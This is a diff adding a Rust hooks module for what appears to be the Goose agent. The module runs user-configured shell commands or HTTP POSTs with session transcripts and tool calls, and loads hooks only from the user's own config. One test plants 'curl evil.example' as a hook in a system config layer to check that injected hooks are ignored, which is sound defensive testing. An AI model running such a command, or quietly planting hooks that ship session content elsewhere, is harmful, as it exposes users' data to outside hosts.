@@ -0,0 +1,355 @@
+//! User-defined hooks that run at points in a session's lifecycle.
+//!
+//! Hooks are configured under `GOOSE_HOOKS`, keyed by event:
+//!
+//! ```yaml
+//! GOOSE_HOOKS:
+//!   on_session_start:
+//!     - command: ~/bin/goose-started.sh
+//!   on_turn_complete:
+//!     - url: https://tools.internal/goose/transcripts
+//!       headers:
+//!         Authorization: Bearer 0123456789abcdef
+//!   on_tool_call: []
+//!   on_session_end: []
+//! ```
+//!
+//! Each hook receives a [`HookEvent`] as JSON: commands get it on stdin (with the event name
+//! in `GOOSE_HOOK_EVENT`), URLs get it as a POST body. Hooks run in the background and
+//! failures are only logged, so a broken hook never holds up or breaks a session.
+
+use crate::config::Config;
+use crate::conversation::message::{Message, ToolRequest, ToolResponse};
+use crate::session;
+use anyhow::{anyhow, Result};
+use once_cell::sync::Lazy;
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::time::Duration;
+use tokio::io::AsyncWriteExt;
+use tokio::process::Command;
+use tokio::task::JoinSet;
+
+pub const HOOKS_CONFIG_KEY: &str = "GOOSE_HOOKS";
+const HOOK_TIMEOUT: Duration = Duration::from_secs(30);
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum HookKind {
+    OnSessionStart,
+    OnTurnComplete,
+    OnToolCall,
+    OnSessionEnd,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(untagged)]
+pub enum HookAction {
+    /// Shell command, run with `sh -c` (`cmd /C` on Windows)
+    Command { command: String },
+    /// URL the event is POSTed to
+    Http {
+        url: String,
+        #[serde(default)]
+        headers: HashMap<String, String>,
+    },
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct HooksConfig {
+    #[serde(default)]
+    pub on_session_start: Vec<HookAction>,
+    #[serde(default)]
+    pub on_turn_complete: Vec<HookAction>,
+    #[serde(default)]
+    pub on_tool_call: Vec<HookAction>,
+    #[serde(default)]
+    pub on_session_end: Vec<HookAction>,
+}
+
+impl HooksConfig {
+    /// Hooks run commands and send session content elsewhere, so they are only read from the
+    /// user's own config file, never from the environment or a project, team or system layer
+    pub fn load(config: &Config) -> Self {
+        config.get_user_param(HOOKS_CONFIG_KEY).unwrap_or_default()
+    }
+
+    pub fn actions(&self, kind: HookKind) -> &[HookAction] {
+        match kind {
+            HookKind::OnSessionStart => &self.on_session_start,
+            HookKind::OnTurnComplete => &self.on_turn_complete,
+            HookKind::OnToolCall => &self.on_tool_call,
+            HookKind::OnSessionEnd => &self.on_session_end,
+        }
+    }
+}
+
+/// Payload sent to every hook
+#[derive(Debug, Clone, Serialize)]
+pub struct HookEvent {
+    pub event: HookKind,
+    pub session_id: Option<String>,
+    pub working_dir: Option<PathBuf>,
+    pub timestamp: String,
+    /// Event specific details: the turn's messages, the tool request and response, ...
+    pub data: serde_json::Value,
+}
+
+impl HookEvent {
+    pub fn new(
+        event: HookKind,
+        session_id: Option<&session::Identifier>,
+        working_dir: Option<&Path>,
+        data: serde_json::Value,
+    ) -> Self {
+        Self {
+            event,
+            session_id: session_id.map(session_label),
+            working_dir: working_dir.map(Path::to_path_buf),
+            timestamp: chrono::Utc::now().to_rfc3339(),
+            data,
+        }
+    }
+
+    pub fn turn_complete(
+        session_id: Option<&session::Identifier>,
+        working_dir: Option<&Path>,
+        messages: &[Message],
+    ) -> Self {
+        Self::new(
+            HookKind::OnTurnComplete,
+            session_id,
+            working_dir,
+            serde_json::json!({ "messages": messages }),
+        )
+    }
+
+    pub fn tool_call(
+        session_id: Option<&session::Identifier>,
+        working_dir: Option<&Path>,
+        request: &ToolRequest,
+        response: &ToolResponse,
+    ) -> Self {
+        Self::new(
+            HookKind::OnToolCall,
+            session_id,
+            working_dir,
+            serde_json::json!({ "request": request, "response": response }),
+        )
+    }
+}
+
+fn session_label(id: &session::Identifier) -> String {
+    match id {
+        session::Identifier::Name(name) => name.clone(),
+        session::Identifier::Path(path) => path
+            .file_stem()
+            .map(|stem| stem.to_string_lossy().into_owned())
+            .unwrap_or_else(|| path.to_string_lossy().into_owned()),
+    }
+}
+
+async fn run_command(command: &str, event: &HookEvent, payload: &[u8]) -> Result<()> {
+    let mut cmd = if cfg!(target_os = "windows") {
+        let mut cmd = Command::new("cmd");
+        cmd.args(["/C", command]);
+        cmd
+    } else {
+        let mut cmd = Command::new("sh");
+        cmd.args(["-c", command]);
+        cmd
+    };
+    let event_name = serde_json::to_value(event.event)?;
+    let mut child = cmd
+        .env("GOOSE_HOOK_EVENT", event_name.as_str().unwrap_or_default())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true)
+        .spawn()?;
+    if let Some(mut stdin) = child.stdin.take() {
+        // A hook that doesn't read its input closes the pipe early; that's fine
+        let _ = stdin.write_all(payload).await;
+    }
+    let output = child.wait_with_output().await?;
+    if !output.status.success() {
+        return Err(anyhow!(
+            "exited with {}: {}",
+            output.status,
+            String::from_utf8_lossy(&output.stderr).trim()
+        ));
+    }
+    Ok(())
+}
+
+async fn post(url: &str, headers: &HashMap<String, String>, payload: Vec<u8>) -> Result<()> {
+    let mut request = reqwest::Client::new()
+        .post(url)
+        .header("Content-Type", "application/json")
+        .body(payload);
+    for (name, value) in headers {
+        request = request.header(name, value);
+    }
+    request.send().await?.error_for_status()?;
+    Ok(())
+}
+
+async fn run(action: &HookAction, event: &HookEvent, payload: Vec<u8>) -> Result<()> {
+    let future = async {
+        match action {
+            HookAction::Command { command } => run_command(command, event, &payload).await,
+            HookAction::Http { url, headers } => post(url, headers, payload).await,
+        }
+    };
+    tokio::time::timeout(HOOK_TIMEOUT, future)
+        .await
+        .map_err(|_| anyhow!("timed out after {:?}", HOOK_TIMEOUT))?
+}
+
+/// Hooks still running, so short-lived processes can wait for them before exiting
+static PENDING: Lazy<std::sync::Mutex<JoinSet<()>>> =
+    Lazy::new(|| std::sync::Mutex::new(JoinSet::new()));
+
+/// Run the configured hooks for `event` in the background
+pub fn fire(event: HookEvent) {
+    let actions = HooksConfig::load(Config::global())
+        .actions(event.event)
+        .to_vec();
+    if actions.is_empty() {
+        return;
+    }
+    let payload = match serde_json::to_vec(&event) {
+        Ok(payload) => payload,
+        Err(e) => {
+            tracing::warn!("Failed to serialize hook event: {}", e);
+            return;
+        }
+    };
+    let mut pending = PENDING.lock().unwrap();
+    while pending.try_join_next().is_some() {}
+    pending.spawn(async move {
+        for action in actions {
+            if let Err(e) = run(&action, &event, payload.clone()).await {
+                tracing::warn!("{:?} hook {:?} failed: {}", event.event, action, e);
+            }
+        }
+    });
+}
+
+/// Wait for every hook fired so far to finish
+pub async fn flush() {
+    let mut pending = std::mem::take(&mut *PENDING.lock().unwrap());
+    while pending.join_next().await.is_some() {}
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_config() {
+        let config: HooksConfig = serde_yaml::from_str(
+            r#"
+on_turn_complete:
+  - command: cat >> /tmp/transcript.jsonl
+  - url: https://example.com/hook
+    headers:
+      Authorization: Bearer abc
+"#,
+        )
+        .unwrap();
+        assert!(config.on_session_start.is_empty());
+        assert_eq!(
+            config.actions(HookKind::OnTurnComplete),
+            &[
+                HookAction::Command {
+                    command: "cat >> /tmp/transcript.jsonl".to_string()
+                },
+                HookAction::Http {
+                    url: "https://example.com/hook".to_string(),
+                    headers: HashMap::from([(
+                        "Authorization".to_string(),
+                        "Bearer abc".to_string()
+                    )]),
+                },
+            ]
+        );
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_command_receives_event_on_stdin() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("event.json");
+        let action = HookAction::Command {
+            command: format!(
+                "echo $GOOSE_HOOK_EVENT > {0}.name; cat > {0}",
+                out.display()
+            ),
+        };
+        let event = HookEvent::new(
+            HookKind::OnSessionEnd,
+            Some(&session::Identifier::Path(PathBuf::from(
+                "/sessions/20250101_1.jsonl",
+            ))),
+            None,
+            serde_json::Value::Null,
+        );
+        run(&action, &event, serde_json::to_vec(&event).unwrap())
+            .await
+            .unwrap();
+
+        let written: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
+        assert_eq!(written["event"], "on_session_end");
+        assert_eq!(written["session_id"], "20250101_1");
+        let name = std::fs::read_to_string(out.with_extension("json.name")).unwrap();
+        assert_eq!(name.trim(), "on_session_end");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_failing_command_is_reported() {
+        let event = HookEvent::new(
+            HookKind::OnSessionStart,
+            None,
+            None,
+            serde_json::Value::Null,
+        );
+        let action = HookAction::Command {
+            command: "echo nope >&2; exit 3".to_string(),
+        };
+        let err = run(&action, &event, Vec::new()).await.unwrap_err();
+        assert!(err.to_string().contains("nope"));
+    }
+
+    #[test]
+    fn test_hooks_are_only_read_from_the_user_config() {
+        let dir = tempfile::tempdir().unwrap();
+        let system = dir.path().join("system.yaml");
+        std::fs::write(
+            &system,
+            "GOOSE_HOOKS:\n  on_session_start:\n    - command: curl evil.example\n",
+        )
+        .unwrap();
+        let config = Config::new_with_file_secrets(
+            dir.path().join("config.yaml"),
+            dir.path().join("secrets.yaml"),
+        )
+        .unwrap()
+        .with_layers(Some(system), None);
+        assert!(HooksConfig::load(&config).on_session_start.is_empty());
+
+        config
+            .set_param(
+                HOOKS_CONFIG_KEY,
+                serde_json::json!({ "on_session_end": [{ "command": "true" }] }),
+            )
+            .unwrap();
+        let hooks = HooksConfig::load(&config);
+        assert!(hooks.on_session_start.is_empty());
+        assert_eq!(hooks.on_session_end.len(), 1);
+    }
+}